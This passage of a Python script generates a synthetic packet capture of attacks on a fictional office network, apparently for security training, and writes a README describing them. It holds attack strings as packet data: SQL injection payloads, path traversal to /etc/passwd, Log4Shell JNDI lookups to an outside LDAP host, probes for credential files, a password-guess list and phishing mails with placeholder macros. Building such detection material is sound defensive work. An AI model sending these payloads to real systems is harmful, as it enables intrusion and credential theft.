                self.cap.add(c.now, fr(pg.ipv4(SCANNER, WEB, 6, pkt, ttl=41,
                                               ident=rng.getrandbits(16)), True))
                answered = p not in open_ports
                if answered:
                    adv = 1 if "F" in str(flags) else 0
                    ra = pg.tcp(WEB, SCANNER, p, sp, seq=0, ack=seq + adv, flags="RA", window=0)
                    self.cap.add(c.now + pg.ns(0.00012),
                                 fr(pg.ipv4(WEB, SCANNER, 6, ra, ttl=64, df=True), False))
                stealth.append((kind, p, sp, answered, self.rel(c)))
                c.advance(0.1, 0.02)
            c.advance(2.0)
        c = self.clock(T2_UDP)
        fr_dns = self.framer(SCANNER, DNS)
        udp_ports = [7, 9, 17, 19, 49, 67, 68, 69, 80, 88, 111, 120, 123, 135, 136, 137, 138, 139,
                     158, 161, 162, 177, 427, 443, 445, 497, 500, 514, 515, 518, 520, 593, 623,
                     626, 631, 996, 997, 998, 999, 1022, 1023, 1025, 1026, 1027, 1028, 1029,
                     1030, 1433, 1434, 1645]
        assert len(udp_ports) == 50 and 53 not in udp_ports
        rng.shuffle(udp_ports)
        for p in udp_ports:
            probe = pg.udp_packet(SCANNER, DNS, 45682, p, b"", ttl=41, ident=rng.getrandbits(16))
            self.cap.add(c.now, fr_dns(probe, True))
            err = pg.ipv4(DNS, SCANNER, pg.IPPROTO_ICMP, pg.icmp4_error(3, 3, probe),
                          ident=rng.getrandbits(16), ttl=64)
            self.cap.add(c.now + pg.ns(0.0002), fr_dns(err, False))
            c.advance(0.1, 0.02)
        self.facts["t2"] = {"syn_start": T2_SYN, "syn_end": syn_end, "n_syn": len(ports),
                            "n_rst": n_rst, "n_synack": n_sa, "stealth": stealth,
                            "udp_ports": sorted(udp_ports), "udp_end": self.rel(c)}

    # ------------------------------------------------------------------ T3 web scanner
    def t3(self):
        rng = self.rng
        apache = "Apache/2.4.58 (Ubuntu)"

        def page404(path):
            return ("<!DOCTYPE HTML PUBLIC \"-//IETF//DTD HTML 2.0//EN\">\n<html><head>\n<title>"
                    "404 Not Found</title>\n</head><body>\n<h1>Not Found</h1>\n<p>The requested "
                    "URL was not found on this server.</p>\n<hr>\n<address>%s Server at %s Port "
                    "80</address>\n</body></html>\n" % (apache, WWW)).encode()

        def page_status(code, title, text):
            return ("<!DOCTYPE HTML PUBLIC \"-//IETF//DTD HTML 2.0//EN\">\n<html><head>\n<title>"
                    "%d %s</title>\n</head><body>\n<h1>%s</h1>\n<p>%s</p>\n<hr>\n<address>%s "
                    "Server at %s Port 80</address>\n</body></html>\n" %
                    (code, title, title, text, apache, WWW)).encode()
        ok200 = {"/", "/index.html", "/robots.txt", "/icons/README", "/company/profile.html",
                 "/item.php?id=1"}
        forbidden = {"/.htaccess", "/.htpasswd", "/server-status", "/cgi-bin/", "/icons/",
                     "/.git/config"}
        nikto = ["/", "/robots.txt", "/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/",
                 "/cgi-bin/test.cgi", "/actuator/health", "/admin/", "/backup.zip",
                 "/config.php.bak", "/server-status", "/.htaccess", "/.htpasswd", "/.svn/entries",
                 "/web.config", "/crossdomain.xml", "/sitemap.xml", "/test.php", "/info.php",
                 "/phpinfo.php", "/cgi-bin/printenv", "/manager/html", "/jmx-console/",
                 "/solr/admin/", "/console/", "/.DS_Store", "/WEB-INF/web.xml", "/xmlrpc.php",
                 "/wp-admin/", "/administrator/", "/login.php", "/shell.php", "/cmd.php",
                 "/uploads/", "/db/", "/dump.sql", "/backup/", "/old/", "/tmp/", "/icons/",
                 "/icons/README", "/cgi-bin/", "/cgi-bin/php.cgi", "/scripts/", "/_vti_bin/",
                 "/iisadmin/", "/index.html", "/company/profile.html", "/actuator/env",
                 "/api/v1/users", "/.aws/credentials", "/config.json", "/debug/pprof/",
                 "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/owa/auth/logon.aspx",
                 "/remote/login", "/boaform/admin/formLogin", "/HNAP1/", "/.well-known/security.txt",
                 "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                 "/index.php?page=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                 "/../../etc/passwd", "/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
                 "/cgi-bin/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/?x=${jndi:ldap://198.51.100.99/a}",
                 "/api/login", "/struts2-showcase/", "/wls-wsat/CoordinatorPortType",
                 "/mifs/.;/services/LogService", "/console/login/LoginForm.jsp",
                 "/sap/bc/gui/sap/its/webgui", "/Autodiscover/Autodiscover.xml",
                 "/.git/HEAD", "/.vscode/sftp.json", "/docker-compose.yml", "/.env.bak",
                 "/wp-content/debug.log", "/storage/logs/laravel.log",
                 "/wp-config.php.bak"]
        assert len(nikto) == 80, len(nikto)
        sqlmap = ["/item.php?id=1"]
        inj = ["1%27%20OR%201=1--", "1%20AND%201=1", "1%20AND%201=2", "1%27%20AND%20%271%27=%271",
               "1%20ORDER%20BY%201--", "1%20ORDER%20BY%2010--",
               "1%20UNION%20ALL%20SELECT%20NULL--", "1%20UNION%20ALL%20SELECT%20NULL,NULL--",
               "1%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--", "1%27%20AND%20SLEEP(5)--%20-",
               "1%29%20AND%20%28SELECT%201%20FROM%20%28SELECT%28SLEEP%285%29%29%29a%29--",
               "1%20AND%20EXTRACTVALUE(1,CONCAT(0x5c,VERSION()))",
               "-1%20UNION%20SELECT%201,user(),database()--",
               "1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
               "1%3BSELECT%20PG_SLEEP(5)--", "1%20WAITFOR%20DELAY%20%270:0:5%27--",
               "1%20AND%201=CONVERT(int,@@version)--", "1%27%22%28%29",
               "1%20OR%20%27x%27=%27x", "1%27)%20OR%20(%27a%27=%27a"]
        for i in range(39):
            sqlmap.append("/item.php?id=" + inj[i % len(inj)] + ("" if i < len(inj) else
                                                                  "&_=%d" % i))
        reqs = []
        for i, p in enumerate(nikto):
            extra = ""
            if p == "/actuator/health":
                extra = "X-Api-Version: ${jndi:ldap://198.51.100.99/a}\r\n"
            if p == "/api/login":
                extra = "Referer: ${jndi:ldap://198.51.100.99/a}\r\n"
            reqs.append(("nikto", p, UA_NIKTO % (i + 1), extra))
        for p in sqlmap:
            reqs.append(("sqlmap", p, UA_SQLMAP, ""))
        assert len(reqs) == 120
        codes = {}
        log4 = []
        times = []
        t = T3_START
        span = 20.0
        step = span / (len(reqs) - 1)
        conn_of = []
        for ci in range(12):
            conn_of += [ci] * 10
        sessions = {}
        c = self.clock(t)
        for i, (tool, path, ua, extra) in enumerate(reqs):
            ci = conn_of[i]
            target = T0 + pg.ns(T3_START + i * step)
            if ci not in sessions:
                c.at(max(c.now, target - pg.ns(0.01)))
                s = self.tcp(c, (WEBSCANNER, self.eport(WEBSCANNER)), (WEB, 80), rtt=0.002,
                             ttl_client=52)
                s.handshake()
                sessions[ci] = s
                self.counters["http_sessions"] += 1
            s = sessions[ci]
            c.at(max(c.now, target))
            times.append(self.rel(c))
            req = ("GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n%s"
                   "Connection: Keep-Alive\r\n\r\n" % (path, WEB, ua, extra)).encode()
            if "jndi" in extra or "jndi" in path:
                log4.append((i + 1, path, extra.strip() or "(in the query string)"))
            if path in ok200 or path.startswith("/item.php"):
                code = 200
                if path.startswith("/item.php"):
                    body = self.http_page("Item 1", 1)
                elif path == "/robots.txt":
                    body = b"User-agent: *\nDisallow: /admin/\n"
                else:
                    body = self.http_page("Sakura Trading", 3)
            elif path in forbidden:
                code, body = 403, page_status(403, "Forbidden", "You don't have permission to "
                                              "access this resource.")
            elif ".." in path or "%2e%2e" in path:
                code, body = 400, page_status(400, "Bad Request", "Your browser sent a request "
                                              "that this server could not understand.")
            else:
                code, body = 404, page404(path)
            codes[code] = codes.get(code, 0) + 1
            ctype = "text/plain" if path == "/robots.txt" else (
                "text/html; charset=iso-8859-1" if code != 200 else "text/html; charset=UTF-8")
            self.counters["http_requests"] += 1
            self.dialog(s, [("C", req), ("S", self.http_response(c, code, body, ctype, apache),
                                         0.0015)])
            s.ack(True)
            if ci != (conn_of[i + 1] if i + 1 < len(reqs) else None):
                s.close()
        self.facts["t3"] = {"n": len(reqs), "first": times[0], "last": times[-1],
                            "codes": codes, "nikto": 80, "sqlmap": 40, "conns": 12,
                            "log4shell": log4}

    # ------------------------------------------------------------------ T4 SYN flood
    def t4(self):
        rng = self.rng
        used = {"203.0.113.%d" % x for x in (10, 30, 40, 50, 51, 52, 66, 120)} | \
            {"198.51.100.%d" % x for x in (20, 25, 33, 41, 77, 99, 140)}
        fr = self.framer("203.0.113.1", MAIL)
        c = self.clock(T4_START)
        n_sa = 0
        srcs = set()
        step = T4_SECONDS / T4_SYNS
        for i in range(T4_SYNS):
            while True:
                src = "%s.%d" % (rng.choice(["203.0.113", "198.51.100"]), rng.randrange(1, 255))
                if src not in used:
                    break
            srcs.add(src)
            sp = rng.randrange(1024, 65536)
            seq = rng.getrandbits(32)
            syn = pg.tcp(src, MAIL, sp, 110, seq=seq, flags="S", window=rng.choice([512, 1024,
                                                                                     8192, 65535]))
            self.cap.add(c.now, fr(pg.ipv4(src, MAIL, 6, syn, ttl=rng.randrange(40, 120),
                                           ident=rng.getrandbits(16)), True))
            if i % 5 == 0:
                sa = pg.tcp(MAIL, src, 110, sp, seq=rng.getrandbits(32), ack=seq + 1, flags="SA",
                            window=64240, options=pg.tcp_options(pg.opt_mss(1460), pg.opt_nop(),
                                                                 pg.opt_nop(), pg.opt_sack_perm(),
                                                                 pg.opt_nop(), pg.opt_ws(7)))
                self.cap.add(c.now + pg.ns(0.0001),
                             fr(pg.ipv4(MAIL, src, 6, sa, ttl=64, df=True), False))
                n_sa += 1
            c.advance(step, step * 0.5)
        end = self.rel(c)
        slow = []
        for pc, dt, delay in (("192.168.10.27", 2.0, 2.4), ("192.168.10.33", 5.0, 3.1),
                              ("192.168.10.38", 8.0, 3.8)):
            rec = {"pc": pc}
            self.at(T4_START + dt, self.mail_poll, pc, greeting_delay=delay, record=rec)
            slow.append(rec)
        # an inbound SMTP delivery during the flood also sees a slow banner
        self.facts["t4"] = {"start": T4_START, "end": end, "syns": T4_SYNS, "synacks": n_sa,
                            "sources": len(srcs), "slow": slow}

    # ------------------------------------------------------------------ T5 brute force / spray
    def t5(self):
        accounts = [u for u, _, _ in PCS.values()] + ["admin", "info", "sales", "support",
                                                      "soumu", "keiri"]
        assert len(accounts) == 25
        spray = []
        for i, acct in enumerate(accounts):
            t = T5_IMAP + 20.0 * i
            self.at(t, self.imap_session, SPRAY_IMAP, acct, "Summer2024!", success=False,
                    quoted=True)
            spray.append((t, acct))
        guesses = ["123456", "password", "admin", "admin123", "12345678", "qwerty", "letmein",
                   "welcome", "Passw0rd", "P@ssw0rd", "admin1", "root", "changeme", "1qaz2wsx",
                   "abc123", "111111", "iloveyou", "sakura", "sakura123", "Sakura2023",
                   "administrator", "test", "guest", "master", "dragon", "monkey", "trustno1",
                   "password1", "Password1!", "admin@123", "pass123", "zaq12wsx", "qwerty123",
                   "summer2024", "Winter2023!", "tokyo2024", "office", "mail", "secret",
                   "admin2024"]
        assert len(guesses) == 40
        brute = []
        for i, pw in enumerate(guesses + [self.pw["admin"]]):
            t = T5_POP3 + 15.0 * i
            ok = i == len(guesses)
            self.at(t, self.pop3_session, BRUTE_POP3, "admin", pw, success=ok)
            brute.append((t, ok))
        smtp = []
        users = ["info", "admin", "sales", "support"]
        pwlists = [["info123", "Info2024", "password"], ["admin", "admin123", "P@ssw0rd"],
                   ["sales", "sales2024", "123456"], ["support", "support1", "qwerty"]]
        for i, (u, pws) in enumerate(zip(users, pwlists)):
            t = T5_SMTP + 90.0 * i
            self.at(t, self.smtp_auth_fail, "%s@%s" % (u, DOMAIN), pws)
            smtp.append((t, u, len(pws)))
        self.facts["t5"] = {"spray": spray, "brute": brute, "brute_success_pw_len":
                            len(self.pw["admin"]), "smtp": smtp}

    def smtp_auth_fail(self, t, user, passwords):
        c = self.clock(t)
        s = self.tcp(c, (BRUTE_SMTP, self.eport(BRUTE_SMTP)), (MAIL, 25), rtt=0.06,
                     ttl_client=46)
        s.handshake()
        self.counters["smtp_sessions"] += 1
        ehlo = ("250-%s\r\n250-PIPELINING\r\n250-SIZE 10240000\r\n250-VRFY\r\n250-ETRN\r\n"
                "250-AUTH PLAIN LOGIN\r\n250-ENHANCEDSTATUSCODES\r\n250-8BITMIME\r\n250-DSN\r\n"
                "250 SMTPUTF8\r\n" % MAILHOST).encode()
        steps = [("S", b"220 %s ESMTP Postfix (Ubuntu)\r\n" % MAILHOST.encode(), 0.03),
                 ("C", b"EHLO User\r\n"), ("S", ehlo)]
        for pw in passwords:
            steps += [("C", b"AUTH LOGIN\r\n", 0.5), ("S", b"334 VXNlcm5hbWU6\r\n"),
                      ("C", base64.b64encode(user.encode()) + b"\r\n"),
                      ("S", b"334 UGFzc3dvcmQ6\r\n"),
                      ("C", base64.b64encode(pw.encode()) + b"\r\n"),
                      ("S", b"535 5.7.8 Error: authentication failed: authentication failure\r\n",
                       1.0)]
        steps += [("C", b"QUIT\r\n"), ("S", b"221 2.0.0 Bye\r\n")]
        self.dialog(s, steps)
        s.close(by_client=False)

    # ------------------------------------------------------------------ T6 Emotet mail
    def t6(self):
        rng = self.rng
        doc = pg.ole_cfb({
            "WordDocument": b"\xec\xa5\xc1\x00" + bytes(rng.getrandbits(8) for _ in range(1500)),
            "1Table": bytes(rng.getrandbits(8) for _ in range(700)),
            "Macros/PROJECT": b'ID="{5A1C0F3E-2B7D-4E9A-9C3F-7D1E2A4B6C8D}"\r\n'
                              b'Document=ThisDocument/&H00000000\r\nName="Project"\r\n',
            "Macros/VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
            "Macros/VBA/ThisDocument": pg.ovba_compress(
                b'Attribute VB_Name = "ThisDocument"\r\nSub Document_Open()\r\n'
                b"    ' mamori demo sample: inert placeholder for a downloader macro\r\n"
                b'    Debug.Print "demo"\r\nEnd Sub\r\n'),
        })
        zip_a = pg.zip_archive([("invoice.doc", doc)], password="0423", rng=rng,
                               mtime=(2024, 4, 22, 17, 48, 6))
        vba = pg.vba_project_bin(b"Sub AutoOpen()\r\n    ' mamori demo sample: inert placeholder "
                                 b"for a downloader macro\r\n    Debug.Print \"demo\"\r\nEnd Sub\r\n")
        ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Types xmlns="http://'
              'schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
              'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default '
              'Extension="xml" ContentType="application/xml"/><Default Extension="bin" '
              'ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/'
              'document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"'
              '/></Types>').encode()
        rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships xmlns='
                '"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
                'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
                ).encode()
        docrels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships '
                   'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                   '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/'
                   'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>').encode()
        docxml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<w:document '
                  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
                  '<w:p><w:r><w:t>This document was created in an earlier version of Microsoft '
                  'Office. To view the content, click Enable Editing and then Enable Content.'
                  '</w:t></w:r></w:p></w:body></w:document>').encode()
        docm = pg.zip_archive([("[Content_Types].xml", ct), ("_rels/.rels", rels),
                               ("word/document.xml", docxml),
                               ("word/_rels/document.xml.rels", docrels),
                               ("word/vbaProject.bin", vba)], rng=rng,
                              mtime=(2024, 4, 23, 8, 41, 50))
        exe = pg.pe_executable(rng, size=6144)
        specs = {
            "a": ("keiri@trade-partner.example", "sato@" + DOMAIN,
                  "Re: 請求書の送付について（4月分）",
                  "佐藤様\n\nいつもお世話になっております。\n4月分の請求書を添付いたします。\n"
                  "パスワード: 0423\n\nよろしくお願いいたします。\n",
                  [("invoice_0423.zip", "application/zip", zip_a)]),
            "b": ("t.mori@kougyou-net.example", "yamaguchi@" + DOMAIN,
                  "Monthly report / 月次報告書",
                  "Dear Yamaguchi-san,\n\nPlease find the monthly report attached.\n"
                  "Enable content to view the tables.\n\nBest regards,\nMori\n",
                  [("report.docm", "application/vnd.ms-word.document.macroEnabled.12", docm)]),
            "c": ("scanner@scan-service.example", "kobayashi@" + DOMAIN,
                  "Scanned document from MFP-3F",
                  "Scanned from MFP-3F.\nPages: 2\nFile type: PDF\n",
                  [("scan.pdf.exe", "application/octet-stream", exe)]),
        }
        out = {}
        for key, (frm, to, subj, text, atts) in specs.items():
            ip, helo, dom = EMOTET_SENDERS[key]
            c = self.clock(T6[key])
            msg, mid = self.message(c, frm, to, subj, text, atts)
            self.at(T6[key], self.smtp_inbound, ip, helo, frm, [to], msg)
            self.tracked[msg] = key
            out[key] = {"time": T6[key], "sender_ip": ip, "helo": helo, "from": frm, "to": to,
                        "subject": subj, "message_id": mid,
                        "attachments": [(n, ctp, len(d), hashlib.sha256(d).hexdigest())
                                        for n, ctp, d in atts]}
        out["inner"] = {"invoice.doc": (len(doc), hashlib.sha256(doc).hexdigest()),
                        "word/vbaProject.bin": (len(vba), hashlib.sha256(vba).hexdigest())}
        self.facts["t6"] = out

    # ------------------------------------------------------------------ normal schedule
    def normal(self):
        rng = self.rng
        pcs = ["192.168.10.%d" % x for x in PCS]
        http_sites = [n for n, v in SITES.items() if v[1] == "http"] + [WWW]
        tls_sites = [n for n, v in SITES.items() if v[1] != "http"]
        n_http = n_tls = 0
        for _ in range(36):
            self.at(rng.uniform(0.5, END - 30), self.browse_http, rng.choice(pcs),
                    rng.choice(http_sites))
            n_http += 1
        for _ in range(32):
            self.at(rng.uniform(0.5, END - 30), self.browse_tls, rng.choice(pcs),
                    rng.choice(tls_sites))
            n_tls += 1
        self.at(0.0, self.browse_http, "192.168.10.21", "news.example.com")
        for _ in range(12):
            self.at(rng.uniform(10, END - 30), self.visitor,
                    rng.choice(["192.0.2.%d" % rng.randrange(60, 200),
                                "198.51.100.%d" % rng.randrange(150, 250)]))
        # mail polling every 30 min per PC; the three T4 PCs poll at flood time + k*1800
        slow = {"192.168.10.27": 1802.0, "192.168.10.33": 1805.0, "192.168.10.38": 1808.0}
        fixed = {"192.168.10.30": 1500.0}   # kobayashi polls at 6900, after T6 (c) arrives
        for pc in pcs:
            off = slow.get(pc) or fixed.get(pc) or rng.uniform(5, 1795)
            t = off % 1800.0
            while t < END - 20:
                in_flood = T4_START - 15 <= t <= T4_START + T4_SECONDS + 15
                if not (pc in slow and abs(t - (slow[pc] + 1800)) < 1):
                    if in_flood and pc not in slow:
                        t += 40  # keep other polls out of the flood window
                    self.at(t, self.mail_poll, pc)
                t += 1800.0
        # legitimate inbound mail
        subjects = ["Meeting schedule for next week", "見積書送付のご案内", "Delivery notice",
                    "Re: product samples", "月例会議の議事録", "Invoice April (PDF)",
                    "Shipping confirmation", "Re: Re: catalogue update"]
        users = [u for u, _, _ in PCS.values()]
        for i, subj in enumerate(subjects):
            ip, helo, dom = PARTNERS[i % 2]
            t = rng.uniform(60, END - 600)
            to = rng.choice(users)
            atts = []
            if "PDF" in subj:
                pdf = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages"
                       b"/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox"
                       b"[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
                atts = [("invoice_2024-04.pdf", "application/pdf", pdf)]
            frm = "%s@%s" % (rng.choice(["tanaka.k", "info", "sales", "m.ito"]), dom)
            c = self.clock(t)
            msg, _ = self.message(c, frm, "%s@%s" % (to, DOMAIN), subj,
                                  "Hello,\n\nPlease see below.\n\nRegards\n" if subj.isascii()
                                  else "いつもお世話になっております。\nご確認ください。\n", atts)
            self.at(t, self.smtp_inbound, ip, helo, frm, ["%s@%s" % (to, DOMAIN)], msg)
        # one inbound delivery during the SYN flood: slow banner
        c = self.clock(T4_START + 6.5)
        msg, _ = self.message(c, "info@partner-a.example", "ito@" + DOMAIN,
                              "Order confirmation #2291", "Thank you for your order.\n")
        slow_smtp = {}
        self.at(T4_START + 6.5, self.smtp_inbound, PARTNERS[0][0], PARTNERS[0][1],
                "info@partner-a.example", ["ito@" + DOMAIN], msg, banner_delay=1.6,
                record=slow_smtp)
        self.facts["t4_smtp"] = slow_smtp
        self.facts["normal"] = {"http_visits": n_http + 1, "tls_visits": n_tls,
                                "web_visitors": 12, "inbound_mail": len(subjects) + 1}

    def build(self):
        self.t1()
        self.t2()
        self.t3()
        self.t4()
        self.t5()
        self.t6()
        self.normal()
        self.run()


# ----------------------------------------------------------------------------- README


def readme(d, path, pcap_path):
    f = d.facts
    L = []
    w = L.append
    size = os.path.getsize(pcap_path)
    recs = d.cap.sorted()
    first, last = recs[0][0], recs[-1][0]
    sha = hashlib.sha256(open(pcap_path, "rb").read()).hexdigest()
    w("# demo/demo.pcap — what is in it")
    w("")
    w("Synthetic capture of a small office network (the SPAN port of its switch) written by "
      "`tools/gen_demo_pcap.py --seed %d`; regenerate it with that command (the output is "
      "byte-identical). Every number below is recorded by the generator while it writes the "
      "packets." % d.seed)
    w("")
    w("- Format: classic pcap, LINKTYPE_ETHERNET, microsecond timestamps, little-endian.")
    w("- Size: %d bytes, %d packets, SHA-256 `%s`." % (size, len(recs), sha))
    w("- First packet %s, last packet %s (%.1f s; relative times below are seconds after "
      "2024-04-23T00:00:00Z = 09:00:00 JST, the first packet)." %
      (iso((first - T0) / 1e9)[0], iso((last - T0) / 1e9)[0], (last - first) / 1e9))
    w("- All TCP/UDP/ICMP/IP checksums are valid; every TCP conversation has a handshake unless "
      "stated (scan probes, flood SYNs).")
    w("")
    w("## Network")
    w("")
    w("HOME_NET 192.168.10.0/24, company \"Sakura Trading\", mail domain `%s`. External hosts "
      "use only 203.0.113.0/24, 198.51.100.0/24 and 192.0.2.0/24; names use the reserved "
      "`.example` TLD and example.com/.net/.org. Packets between the office and the outside "
      "carry the gateway's MAC on the outside end." % DOMAIN)
    w("")
    w("| host | MAC | NIC vendor (OUI) | role |")
    w("|---|---|---|---|")
    for ip, (mac, vendor, role) in INFRA.items():
        w("| %s | %s | %s | %s |" % (ip, mac, vendor, role))
    for last_octet, (user, proto, _) in PCS.items():
        ip = "192.168.10.%d" % last_octet
        note = ""
        if ip in ("192.168.10.23", "192.168.10.31"):
            note = " — **T1 infected**"
        if user in WEAK:
            note += " — **T7 weak password**"
        w("| %s | %s | %s | PC of `%s`, mail by %s%s |" % (ip, d.mac[ip], d.vendor[ip], user,
                                                          proto.upper(), note))
    w("")
    w("Outside: upstream DNS %s (the resolver forwards cache misses to it); web sites %s; "
      "partner mail servers %s." % (
          UPSTREAM_DNS, ", ".join("%s %s (%s)" % (n, v[0], {"http": "HTTP", "tls13": "TLS 1.3",
                                                            "tls12": "TLS 1.2"}[v[1]])
                                  for n, v in SITES.items()),
          ", ".join("%s (%s)" % (ip, h) for ip, h, _ in PARTNERS)))
    w("")
    w("## Normal traffic (background, whole capture)")
    w("")
    c = d.counters
    n = f["normal"]
    w("- DNS: %d queries from PCs to the resolver %s (A and AAAA for web names, A only for the "
      "C2 name; PCs cache answers for their TTL), %d forwarded upstream to %s." %
      (c["dns_queries_pc"], DNS, c["dns_queries_upstream"], UPSTREAM_DNS))
    w("- HTTP: %d browsing visits by PCs to the HTTP sites above and to `www.%s` (page + CSS "
      "[+ PNG] on one keep-alive connection, "
      "Chrome/Edge/Firefox User-Agents, nginx or Apache responses), %d outside visitors to "
      "`%s` (%s). Total HTTP connections in the capture incl. T3: %d, requests: %d." %
      (n["http_visits"], DOMAIN, n["web_visitors"], WWW, WEB, c["http_sessions"],
       c["http_requests"]))
    w("- TLS: %d sessions to portal.example.com / cloud.example.net (TLS 1.3: ClientHello with "
      "SNI, ServerHello + CCS + encrypted records) and bank.example.org (TLS 1.2: ServerHello, "
      "Certificate chain of 2 DER certificates, ServerKeyExchange, ServerHelloDone)." %
      n["tls_visits"])
    w("- Mail: every PC's mail client polls %s every 30 min (POP3: CAPA, USER/PASS, STAT, RETR + "
      "DELE of new mail, QUIT; IMAP: LOGIN, SELECT INBOX, FETCH of new mail, LOGOUT), all with "
      "correct passwords (12 characters, 4 classes) except T7. %d inbound SMTP deliveries from "
      "partner servers (one with a benign PDF attachment `invoice_2024-04.pdf`). Sessions in "
      "total: POP3 %d, IMAP %d, SMTP %d (incl. attacks)." %
      (MAIL, n["inbound_mail"], c["pop3_sessions"], c["imap_sessions"], c["smtp_sessions"]))
    w("- Latency baseline: POP3 greetings come 4-7 ms after the handshake, IMAP greetings about "
      "5 ms, SMTP banners about 30 ms (except during T4).")
    w("")
    w("## T1 — botnet C2 (two PCs, beaconing)")
    w("")
    w("C2 server %s:443, name `%s` (DNS A answer %s, TTL 300). Every C2 connection: DNS lookup "
      "when the PC's cache has expired, TCP handshake, TLS 1.2 ClientHello with SNI `%s` and an "
      "unusual fixed cipher list (no ALPN, no session id, groups secp256r1/secp384r1 only — the "
      "same JA3 for both PCs), server flight with a **self-signed** certificate (subject = "
      "issuer = CN=%s, O=Update Service, C=XX), ClientKeyExchange/CCS/Finished, one "
      "application-data record each way, FIN close." % (C2_IP, C2_NAME, C2_IP, C2_NAME, C2_NAME))
    w("")
    for x in f["t1"]:
        b = x["burst"]
        w("- **%s** (MAC %s, %s): burst of %d connections from %s to %s (%.1f s); then %d "
          "beacons from %s to %s, intervals %.2f-%.2f s (mean %.2f s)." %
          (x["pc"], x["mac"], x["vendor"], len(b), when(b[0]), when(b[-1]), b[-1] - b[0],
           len(x["beacons"]), when(x["beacons"][0]), when(x["beacons"][-1]), min(x["gaps"]),
           max(x["gaps"]), sum(x["gaps"]) / len(x["gaps"])))
    w("- The second burst starts %.1f s (%.0f min) after the first. Each PC makes %d C2 "
      "connections in total (%d for both)." %
      (f["t1"][1]["burst"][0] - f["t1"][0]["burst"][0],
       (f["t1"][1]["burst"][0] - f["t1"][0]["burst"][0]) / 60,
       T1_BURST_N + T1_BEACONS, 2 * (T1_BURST_N + T1_BEACONS)))
    w("")
    t2 = f["t2"]
    w("## T2 — port scan of the web server")
    w("")
    w("Scanner %s (TTL 41 as seen)." % SCANNER)
    w("")
    w("- SYN scan of %s TCP ports 1-300 (random order), source port 45678, window 1024, MSS "
      "option only: %d SYNs from %s to %s. Closed ports answer RST-ACK (%d); open ports 22 and "
      "80 answer SYN-ACK (%d) and the scanner then sends RST (%d). No handshake completes." %
      (WEB, t2["n_syn"], when(t2["syn_start"]), when(t2["syn_end"]), t2["n_rst"],
       t2["n_synack"], t2["n_synack"]))
    kinds = {}
    for kind, p, sp, ans, t in t2["stealth"]:
        kinds.setdefault((kind, sp), []).append((p, ans, t))
    for (kind, sp), lst in kinds.items():
        w("- %s probes (source port %d) to %s ports %s, from %s; RST-ACK from closed ports %s, "
          "no answer from open %s." % (
              kind, sp, WEB, ", ".join(str(p) for p, _, _ in lst), when(lst[0][2]),
              ", ".join(str(p) for p, a, _ in lst if a),
              ", ".join(str(p) for p, a, _ in lst if not a)))
    w("  (FIN = flag F; NULL = no flags; XMAS = FIN+PSH+URG; 15 probes, one every ~0.1 s, 2 s "
      "between kinds.)")
    w("- UDP scan of %s: %d empty UDP datagrams from source port 45682 to ports %s, from %s to "
      "%s; each answered by ICMP type 3 code 3 (port unreachable) from %s quoting the probe's "
      "IP header + 8 bytes. Port 53 is not probed." %
      (DNS, len(t2["udp_ports"]), ", ".join(map(str, t2["udp_ports"])), when(T2_UDP),
       when(t2["udp_end"]), DNS))
    w("")
    t3 = f["t3"]
    w("## T3 — web vulnerability scanner")
    w("")
    w("Source %s to %s:80 (Apache/2.4.58). %d HTTP GET requests from %s to %s over %d "
      "keep-alive connections of 10 requests each (closed by the client): %d with User-Agent "
      "`Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:NNNNNN)` (connections 1-8) then %d "
      "with `%s` (connections 9-12). Responses: %s." %
      (WEBSCANNER, WEB, t3["n"], when(t3["first"]), when(t3["last"]), t3["conns"], t3["nikto"],
       t3["sqlmap"], UA_SQLMAP, ", ".join("%d x %d" % (v, k) for k, v in
                                           sorted(t3["codes"].items()))))
    w("")
    w("- Probe paths include `/.env`, `/.git/config`, `/wp-login.php`, `/phpmyadmin/`, "
      "`/cgi-bin/test.cgi`, `/actuator/health`, `/server-status`, `/.htaccess`.")
    w("- SQL injection (sqlmap, all to `/item.php`, answered 200): e.g. "
      "`/item.php?id=1%27%20OR%201=1--`, `UNION ALL SELECT`, `SLEEP(5)`, `WAITFOR DELAY`.")
    w("- XSS: `/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E` and "
      "`/index.php?page=%3Cscript%3Ealert(1)%3C%2Fscript%3E` (404).")
    w("- Traversal: `/../../etc/passwd`, `/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd`, "
      "`/cgi-bin/%2e%2e/%2e%2e/%2e%2e/etc/passwd` (400).")
    w("- Log4Shell `${jndi:ldap://198.51.100.99/a}`: %s." % "; ".join(
